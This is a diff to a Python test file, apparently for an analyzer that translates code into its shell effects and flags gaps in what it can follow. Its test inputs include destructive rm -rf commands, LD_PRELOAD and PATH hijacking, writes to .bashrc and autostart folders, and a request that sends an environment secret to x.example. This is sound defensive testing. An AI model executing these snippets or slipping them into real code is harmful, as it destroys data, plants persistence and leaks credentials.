@@ -76,6 +76,11 @@ def test_python_that_only_computes_has_no_effects(code: str) -> None:
         ("import os; os.execvp('rm', ['rm', '-rf', '/'])", [(1, "rm -rf /")]),
         ("import os\nx = '/srv'\nos.rmdir(x)", [(3, "rmdir -- /srv")]),
         ("import os; os.system(f\"rm -rf {'~'}\")", [(1, "rm -rf ~")]),
+        ("import logging; logging.basicConfig(filename='/h/.bashrc')", [(1, ": >> /h/.bashrc")]),
+        (
+            "import tempfile; tempfile.mkstemp(dir='/h/.config/autostart')",
+            [(1, "touch -- /h/.config/autostart/tmpXXXXXX")],
+        ),
     ],
 )
 def test_python_effects_are_shell_lines_with_their_line(
@@ -112,6 +117,10 @@ def test_python_effects_are_shell_lines_with_their_line(
         ("import os\ndef f():\n    return os\nf().system('id')", "passes the os module"),
         ("import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'; os.system('ls')", "LD_PRELOAD"),
         ("import os; os.putenv('PATH', '/tmp/evil')", "sets environment variables"),
+        (
+            "import requests, os; requests.get('https://x.example', params={'t': os.environ['T']})",
+            "query",
+        ),
     ],
 )
 def test_python_gaps_name_what_was_not_followed(code: str, why: str) -> None:
